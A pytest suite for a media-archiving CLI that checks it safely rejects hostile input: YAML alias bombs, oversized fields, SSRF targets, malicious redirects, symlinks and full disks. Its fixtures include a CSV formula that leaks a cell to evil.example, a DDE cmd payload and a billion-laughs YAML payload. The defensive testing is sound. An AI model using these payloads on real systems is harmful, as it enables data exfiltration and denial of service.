"""The bad-input matrix, continued (issue 12, the archive's side): hostile manifests,
config files, article servers, catalogues, backups and odd files, each through the
real CLI against a copy of an archive that already holds content (see
tests/support/bad_input.py), checking the exit code, the message, the recorded status
and that nothing archived before changed.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from archiver.articles import fetch
from archiver.store.catalogue import open_catalogue
from archiver.store.media import MediaStore
from tests import test_bad_input as matrix
from tests.support.bad_input import Case, Snapshot, assert_clear, cli, file_hashes, table_rows

ARCHIVER = str(Path(sys.executable).with_name("archiver"))

# the matrix's fixtures: a loopback site, the baseline archive, a private copy of it
bad_site, baseline, case = matrix.bad_site, matrix.baseline, matrix.case

# Nine levels of nine aliases: 9**9 (387 million) strings from a few hundred bytes.
ALIAS_BOMB = "".join(
    f"{name}: &{name} [{', '.join([f'*{previous}'] * 9) if previous else ', '.join(['lol'] * 9)}]\n"
    for previous, name in zip([None, *"abcdefgh"], "abcdefghi", strict=True)
)
# -- YAML: aliases refused, quoted values bounded ----------------------------------------


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        pytest.param(
            ALIAS_BOMB + "clips: *i\n", "aliases (*name) are not allowed", id="alias-bomb"
        ),
        pytest.param(
            "clips:\n  - 'htp://" + "x" * 1_000_000 + "'\n",
            "is not a valid URL",
            id="1MB-value",
        ),
        pytest.param(
            # an explicit key: YAML caps implicit ones at 1024 characters
            "clips: [https://example.org/v.mp4]\n? " + "y" * 1_000_000 + "\n: 1\n",
            "unknown field",
            id="1MB-key",
        ),
    ],
)
def test_hostile_manifest(case: Case, text, phrase):
    manifest = case.input_file("hostile.yaml", text)
    result = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(result, 1, "bad_manifest", phrase)
    assert len(result.output) < 2000, f"{len(result.output)} characters of output"
    [item] = case.new_rows("run_items")
    assert item["status"] == "bad_manifest" and len(item["error_message"]) < 1000
    assert case.new_rows("captures") == []
    case.assert_intact()


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        pytest.param(
            ALIAS_BOMB + "recrawl:\n  first_day_every: *i\n",
            "aliases (*name) are not allowed",
            id="alias-bomb",
        ),
        pytest.param(
            "recrawl:\n  first_day_every: '" + "9" * 1_000_000 + "'\n",
            "not a duration",
            id="1MB-value",
        ),
        pytest.param(
            "recrawl:\n  ? " + "z" * 1_000_000 + "\n  : 1\n",
            "unknown recrawl setting",
            id="1MB-key",
        ),
    ],
)
def test_hostile_config(case: Case, text, phrase):
    """ARCHIVE/config.yaml travels with a backup, so it may come from someone else."""
    (case.archive / "config.yaml").write_text(text, encoding="utf-8")
    case.before = Snapshot.of(case.archive)
    url = case.clip_page("config", case.site.media.clip)
    result = case.run("capture", "--retries", "0", url)
    assert_clear(result, 1, "config.yaml", phrase)
    assert len(result.output) < 2000, f"{len(result.output)} characters of output"
    assert case.new_rows("captures") == []
    case.assert_intact()


# -- CSV: cells a spreadsheet would evaluate --------------------------------------------


def test_exported_csv_holds_no_formulas(case: Case):
    url = case.clip_page(
        "formula",
        case.site.media.other_clip,
        name='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        author={"@type": "Person", "name": "+1+1"},
    )
    article = case.input_file("formula.txt", "-2+3 is what a worker films on his night shift.\n")
    manifest = case.input_file(
        "formula.yaml",
        "articles:\n"
        f"  - path: {article.name}\n"
        "    outlet: '=1+2'\n"
        "links:\n"
        "  - claim: a worker films\n"
        f"    clip: {url}\n",
    )
    built = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(built, 0)
    result = case.run("export", "claims", "--format", "csv")
    assert_clear(result, 0)
    [row] = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["clip_url"] == url]
    assert row["clip_title"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert row["clip_description"].startswith("'@SUM")
    assert row["uploader"] == "'+1+1"
    assert row["outlet"] == "'=1+2"
    assert row["claim"].startswith("'-2+3")
    for cells in csv.reader(io.StringIO(result.stdout)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    case.assert_intact()


# -- what a manifest or an article may reach ---------------------------------------------

ALLOW_PRIVATE = "ARCHIVER_ALLOW_PRIVATE_ADDRESSES"


def _private_file(case: Case) -> Path:
    secret = case.folder / "private-notes.txt"
    secret.write_text("A video shared on TikTok shows my bank password.\n", encoding="utf-8")
    case.outside_before = case.outside()
    return secret


@pytest.mark.parametrize("spelling", ["climbing", "absolute"])
def test_manifest_article_outside_its_folder(case: Case, spelling):
    secret = _private_file(case)
    written = "../private-notes.txt" if spelling == "climbing" else str(secret)
    manifest = case.input_file("reach.yaml", f"articles:\n  - path: {written}\n")
    result = case.run("archive", "--no-transcribe", str(manifest))
    assert_clear(result, 1, "bad_manifest", "outside the manifest's folder", "--allow-outside")
    [item] = case.new_rows("run_items")
    assert (item["stage"], item["status"]) == ("manifest", "bad_manifest")
    assert case.new_rows("articles") == [] and case.new_rows("claims") == []
    case.assert_intact()

    allowed = case.run("archive", "--no-transcribe", "--allow-outside", str(manifest))
    assert_clear(allowed, 0)
    [article] = case.new_rows("articles")
    assert article["source"] == str(secret)


def test_a_link_in_an_article_to_a_private_address_is_not_fetched(case: Case, monkeypatch):
    monkeypatch.delenv(ALLOW_PRIVATE)
    url = case.clip_page("private", case.site.media.other_clip)
    page = url.rsplit("/", 1)[1]
    article = case.input_file(
        "links.html",
        "<html><body><article><p>A worker filmed his night shift in a "
        f'<a href="{url}">video</a> with 3.2 million likes.</p></article></body></html>',
    )
    result = case.run("archive", "--no-transcribe", str(article))
    assert_clear(result, 1, "private_address", "127.0.0.1", "--allow-private-addresses")
    [capture] = case.new_rows("captures")
    assert (capture["requested_url"], capture["status"]) == (url, "private_address")
    assert capture["error_class"] == "PrivateAddress" and capture["clip_id"] is None
    assert not any(path.endswith(page) for path in case.site.requests)  # never asked
    assert case.new_rows("clips") == [] and len(case.new_rows("articles")) == 1
    case.assert_intact()

    allowed = case.run("archive", "--no-transcribe", "--allow-private-addresses", str(article))
    assert_clear(allowed, 0)
    assert len(case.new_rows("clips")) == 1


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "localhost", "10.1.2.3", "192.168.0.10", "169.254.169.254", "[::1]"]
)
def test_capture_of_a_private_address_is_refused(case: Case, monkeypatch, host):
    monkeypatch.delenv(ALLOW_PRIVATE)
    url = f"http://{host}:9/clip.mp4"
    result = case.run("capture", "--retries", "0", url)
    assert_clear(result, 1, "private_address: 1", "--allow-private-addresses")
    [capture] = case.new_rows("captures")
    assert (capture["requested_url"], capture["status"]) == (url, "private_address")
    case.assert_intact()


def test_an_article_url_at_a_private_address_is_not_fetched(case: Case, monkeypatch):
    monkeypatch.delenv(ALLOW_PRIVATE)
    url = case.site.add_page(f"{case.name('story')}.html", "<p>A story.</p>")
    result = case.run("ingest", url)
    assert_clear(result, 1, "private_address", "--allow-private-addresses")
    assert not any(path.endswith(url.rsplit("/", 1)[1]) for path in case.site.requests)
    [item] = case.new_rows("run_items")
    assert (item["stage"], item["status"]) == ("ingest", "private_address")
    case.assert_intact()


# -- article fetches: size, deadline, redirects, a stop signal ---------------------------


class _Hostile(http.server.BaseHTTPRequestHandler):
    """/endless: a body that never ends; /trickle: a byte every 2 s; /to-file and
    /to-ftp: redirects to other schemes."""

    trickling = threading.Event()  # set once a /trickle body has begun

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        if self.path.startswith("/to-"):
            target = {"/to-file": "file:///etc/passwd", "/to-ftp": "ftp://127.0.0.1/x"}
            self.send_response(302)
            self.send_header("Location", target[self.path])
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        try:
            if self.path == "/endless":
                chunk = b"<p>" + b"words " * 10_000 + b"</p>\n"
                while True:
                    self.wfile.write(chunk)
            self.wfile.write(b"<html><body><p>")
            self.wfile.flush()
            _Hostile.trickling.set()
            for _ in range(120):
                self.wfile.write(b"a")
                self.wfile.flush()
                time.sleep(2)
        except OSError:  # the client gave up, as it should
            pass

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def hostile_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(
    ("path", "status", "phrase"),
    [
        pytest.param("/endless", "too_large", "larger than 20 MB", id="endless-body"),
        pytest.param("/trickle", "timed_out", "still sending after 3 s", id="trickle"),
        pytest.param("/to-file", "bad_redirect", "redirects to file:///etc/passwd", id="to-file"),
        pytest.param("/to-ftp", "bad_redirect", "redirects to ftp://", id="to-ftp"),
    ],
)
def test_hostile_article_server(case: Case, hostile_server, monkeypatch, path, status, phrase):
    monkeypatch.setattr(fetch, "FETCH_DEADLINE_SECONDS", 3)
    started = time.monotonic()
    result = case.run("ingest", hostile_server + path)
    took = time.monotonic() - started
    assert_clear(result, 1, status, phrase)
    assert took < 10, f"took {took:.1f} s"
    [item] = case.new_rows("run_items")
    assert (item["stage"], item["status"]) == ("ingest", status)
    assert case.new_rows("articles") == []
    case.assert_intact()


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT])
def test_one_signal_stops_a_trickling_article_fetch(case: Case, hostile_server, signum):
    _Hostile.trickling.clear()
    ingest = subprocess.Popen(
        [ARCHIVER, "--archive", str(case.archive), "ingest", hostile_server + "/trickle"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    # under way: the server is sending (waited for, not slept on: on a loaded machine the
    # command took more than 3 s to start, and a signal during its imports is no fetch's)
    assert _Hostile.trickling.wait(timeout=60), "the fetch never began"
    time.sleep(0.5)
    ingest.send_signal(signum)
    try:
        output, _ = ingest.communicate(timeout=10)
    except subprocess.TimeoutExpired:
        ingest.kill()
        pytest.fail("one signal did not stop the fetch")
    assert ingest.returncode == 128 + signum, output
    assert "Traceback" not in output and "Stopped by" in output
    assert case.new_rows("articles") == []
    case.assert_intact()


# -- catalogues that are not archives; backups that would lose rows ----------------------

READ_ONLY_COMMANDS = [
    ["status"],
    ["verify"],
    ["search", "night"],
    ["export", "claims", "--format", "jsonl"],
    ["review"],
    ["backup", "{backup}"],
]
WRITING_COMMANDS = [
    ["capture", "--retries", "0", "http://"],
    ["ingest", "{article}"],
    ["review", "--confirm", "1"],
]


def _foreign_catalogue(path: Path) -> None:
    conn = sqlite3.connect(path)
    with conn:
        conn.execute("CREATE TABLE notes (note_id INTEGER PRIMARY KEY, text TEXT)")
        conn.execute("INSERT INTO notes (text) VALUES ('my own notes, not an archive')")
    conn.close()


CATALOGUE_CASES = [
    pytest.param(kind, command, id=f"{kind}-{'-'.join(command[:2])}")
    for kind in ("zero-byte", "foreign")
    for command in READ_ONLY_COMMANDS + WRITING_COMMANDS
    # a command that creates archives may start one in an empty file
    if kind == "foreign" or command[0] not in ("capture", "ingest")
]


@pytest.mark.parametrize(("kind", "command"), CATALOGUE_CASES)
def test_a_catalogue_that_is_not_an_archive_is_refused(tmp_path, baseline, kind, command):
    """A zero-byte catalogue.db (a lost one) or another program's SQLite file is never
    turned into an archive by a command that does not create archives, and a foreign
    file is never added to by any command."""
    archive = tmp_path / "archive"
    archive.mkdir()
    catalogue = archive / "catalogue.db"
    if kind == "zero-byte":
        catalogue.write_bytes(b"")
    else:
        _foreign_catalogue(catalogue)
    before = file_hashes(archive)
    args = [part.format(backup=tmp_path / "backup", article=baseline.article) for part in command]
    result = cli(archive, *args)
    phrase = "is not an archive's catalogue" if kind == "zero-byte" else "did not make"
    assert_clear(result, 1, phrase)
    assert file_hashes(archive) == before  # no schema added, no media/ or tmp/ made
    assert not (tmp_path / "backup").exists()


def test_a_command_that_creates_archives_starts_one_in_an_empty_catalogue(tmp_path, bad_site):
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / "catalogue.db").write_bytes(b"")
    url = bad_site.jsonld_page("empty-start.html", "empty-start.mp4", bad_site.media.clip)
    assert_clear(cli(archive, "capture", "--retries", "0", url), 0, "ok: 1")
    assert_clear(cli(archive, "verify"), 0, "catalogue intact")


def test_backup_refuses_to_replace_a_fuller_backup(case: Case, bad_site):
    backup = case.inputs / "backup"
    assert_clear(case.run("backup", str(backup)), 0)
    kept = file_hashes(backup)
    # another archive, with less in it (one failed capture), backed up to the same place
    other = case.inputs / "other"
    cli(other, "capture", "--retries", "0", "http://")
    result = cli(other, "backup", str(backup))
    assert_clear(result, 1, "holds more than this archive", "clips 1 -> 0", "--force")
    assert file_hashes(backup) == kept
    assert_clear(cli(backup, "verify"), 0, "catalogue intact")

    forced = cli(other, "backup", "--force", str(backup))
    assert_clear(forced, 0)
    assert table_rows(backup / "catalogue.db")["clips"] == {}
    case.assert_intact()


def _big_file(archive: Path, megabytes: int) -> None:
    """A large listed file, so a backup takes long enough to be killed in the middle."""
    with open_catalogue(archive) as catalogue:
        source = catalogue.tmp_dir / "big.bin"
        source.write_bytes(os.urandom(megabytes << 20))
        stored = MediaStore(catalogue.root).put(source)
        with catalogue.write() as db:
            db["media_files"].insert(
                {
                    "sha256": stored.sha256,
                    "kind": "video",
                    "path": stored.path,
                    "bytes": stored.bytes,
                    "created_at": "2026-01-01T00:00:00Z",
                }
            )


def _relative(path: Path, root: Path) -> str:
    return path.relative_to(root).as_posix()


def _kill_backup_while_copying(archive: Path, backup: Path, kept: dict[str, str]) -> None:
    """Start `archiver backup` and SIGKILL it once a media copy appears in `backup`."""
    copying = subprocess.Popen(
        [ARCHIVER, "--archive", str(archive), "backup", str(backup)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    staged = None
    deadline = time.monotonic() + 60
    while staged is None and copying.poll() is None and time.monotonic() < deadline:
        # a new file in the backup other than the catalogue's copy: media is being copied
        staged = next(
            (
                p
                for p in backup.rglob("*")
                if p.is_file() and _relative(p, backup) not in kept and "catalogue" not in p.name
            ),
            None,
        )
    copying.kill()  # SIGKILL, with the big file half copied
    copying.wait()
    assert staged is not None, "the backup was never seen copying"


def test_a_killed_backup_leaves_the_previous_one_verifying(case: Case):
    backup = case.inputs / "backup"
    assert_clear(case.run("backup", str(backup)), 0)
    kept = file_hashes(backup)
    _big_file(case.archive, 64)
    case.before = Snapshot.of(case.archive)
    _kill_backup_while_copying(case.archive, backup, kept)
    assert_clear(cli(backup, "verify"), 0, "catalogue intact")
    # the previous backup's files are all as they were; the rest is scratch
    left = {
        path: digest
        for path, digest in file_hashes(backup).items()
        if not path.startswith("tmp/") and "-partial" not in path
    }
    assert left == kept

    assert_clear(case.run("backup", str(backup)), 0)
    assert not (backup / "tmp").exists()  # the next backup cleaned up
    assert_clear(cli(backup, "verify"), 0, "catalogue intact")
    case.assert_intact()


def test_a_killed_first_backup_is_finished_by_the_next(case: Case):
    backup = case.inputs / "backup"
    _big_file(case.archive, 64)
    case.before = Snapshot.of(case.archive)
    _kill_backup_while_copying(case.archive, backup, {})
    assert_clear(case.run("backup", str(backup)), 0)
    assert not (backup / "tmp").exists()
    assert_clear(cli(backup, "verify"), 0, "catalogue intact")
    case.assert_intact()


# -- odd files under media/: reported, never opened, never followed ----------------------


def _audio_path(case: Case) -> Path:
    rows = table_rows(case.archive / "catalogue.db")["media_files"].values()
    [audio] = [row["path"] for row in rows if row["kind"] == "audio"]
    return case.archive / audio


def _run(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    """The CLI in a process of its own: a test of something that used to hang must
    not hang the test run."""
    return subprocess.run(
        [ARCHIVER, *args], capture_output=True, text=True, timeout=timeout, check=False
    )


def test_a_fifo_at_a_listed_path(case: Case):
    audio = _audio_path(case)
    audio.unlink()
    os.mkfifo(audio)  # opening it for reading would wait for a writer forever
    checked = _run("--archive", str(case.archive), "verify", timeout=30)
    assert checked.returncode == 1, checked.stderr
    said = " ".join(checked.stderr.split())
    assert "a FIFO (named pipe); not opened" in said and "missing" in said
    backup = case.inputs / "backup"
    copied = _run("--archive", str(case.archive), "backup", str(backup), timeout=30)
    assert copied.returncode == 1, copied.stderr
    assert "not a regular file" in " ".join(copied.stderr.split())
    assert not (backup / audio.relative_to(case.archive)).exists()


def test_a_symlink_in_place_of_a_listed_file_is_not_followed(case: Case):
    audio = _audio_path(case)
    outside = case.inputs / "elsewhere.m4a"
    audio.rename(outside)  # the right bytes, but outside the archive
    audio.symlink_to(outside)
    checked = case.run("verify")
    assert_clear(checked, 1, "a symbolic link; not opened", "missing")
    backup = case.inputs / "backup"
    copied = case.run("backup", str(backup))
    assert_clear(copied, 1, "a symbolic link, not a regular file; not followed or copied")
    assert not os.path.lexists(backup / audio.relative_to(case.archive))


@pytest.mark.parametrize("target", ["/etc/passwd", "/etc"])
def test_an_unlisted_symlink_under_media_is_reported(case: Case, target):
    link = case.archive / "media" / "00" / "link"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)
    checked = case.run("verify", "--json")
    assert checked.exit_code == 1
    assert json.loads(checked.stdout)["not_regular"] == [
        "media/00/link: a symbolic link; not opened"
    ]
    backup = case.inputs / "backup"
    assert_clear(case.run("backup", str(backup)), 0)
    assert not os.path.lexists(backup / "media" / "00" / "link")
    assert_clear(cli(backup, "verify"), 0, "catalogue intact")


def test_sigterm_stops_a_long_verify(case: Case):
    # sparse files: many GB to hash, no disk used (64 GiB: a machine with SHA-256 in
    # hardware hashed the 4 GiB this test first used in under the two seconds it waits)
    conn = sqlite3.connect(case.archive / "catalogue.db")
    with conn:
        for number in range(64):
            path = case.archive / "media" / "ff" / "ff" / f"{number:064x}.bin"
            path.parent.mkdir(parents=True, exist_ok=True)
            with path.open("wb") as handle:
                handle.truncate(1 << 30)
            conn.execute(
                "INSERT INTO media_files (sha256, kind, path, bytes, created_at) "
                "VALUES (?, 'video', ?, ?, '2026-01-01T00:00:00Z')",
                [f"{number:064x}", path.relative_to(case.archive).as_posix(), 1 << 30],
            )
    conn.close()
    verifying = subprocess.Popen(
        [ARCHIVER, "--archive", str(case.archive), "verify"],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    time.sleep(2)
    assert verifying.poll() is None, "verify finished before it could be stopped"
    started = time.monotonic()
    verifying.send_signal(signal.SIGTERM)
    output, _ = verifying.communicate(timeout=30)
    assert verifying.returncode == 143, output
    # (a hang check, not a speed claim: hashing the 64 GiB takes minutes, and a loaded
    # two-core runner took 8.7 s to stop, past the 5 s this once asked for)
    assert time.monotonic() - started < 20 and "Stopped by SIGTERM" in output


# -- a full disk -------------------------------------------------------------------------


def _tmpfs_works() -> bool:
    probe = subprocess.run(
        ["unshare", "-rm", "sh", "-c", "mount -t tmpfs -o size=64k tmpfs /mnt"],
        capture_output=True,
        check=False,
    )
    return probe.returncode == 0


@pytest.mark.skipif(
    sys.platform != "linux" or not shutil.which("unshare") or not _tmpfs_works(),
    reason="needs a private tmpfs mount (unshare -rm) to fill a real disk",
)
@pytest.mark.parametrize("command", ["status", "verify", "capture --retries 0 {url}"])
def test_a_full_disk_is_called_a_full_disk(case: Case, command):
    """On a tmpfs that is really full (in a mount namespace of its own), opening the
    catalogue fails in SQLite as "disk I/O error": the message says the disk is full."""
    url = case.clip_page("full", case.site.media.clip)
    disk = case.inputs / "disk"
    disk.mkdir()
    script = (
        'mount -t tmpfs -o size=4m tmpfs "$DISK" && cp -a "$ARCHIVE" "$DISK/archive" '
        '&& { head -c 8M /dev/zero > "$DISK/filler" 2>/dev/null; true; } '
        '&& "$ARCHIVER" --archive "$DISK/archive" $COMMAND; code=$?; '
        'rm -rf "$ARCHIVE" && cp -a "$DISK/archive" "$ARCHIVE"; exit $code'
    )
    env = dict(
        os.environ,
        DISK=str(disk),
        ARCHIVE=str(case.archive),
        ARCHIVER=ARCHIVER,
        COMMAND=command.format(url=url),
    )
    ran = subprocess.run(
        ["unshare", "-rm", "sh", "-c", script],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    said = " ".join(ran.stderr.split())
    assert ran.returncode == 1, said
    assert "no space left on the disk" in said and "not a usable catalogue" not in said
    assert "Traceback" not in said
    case.assert_intact()
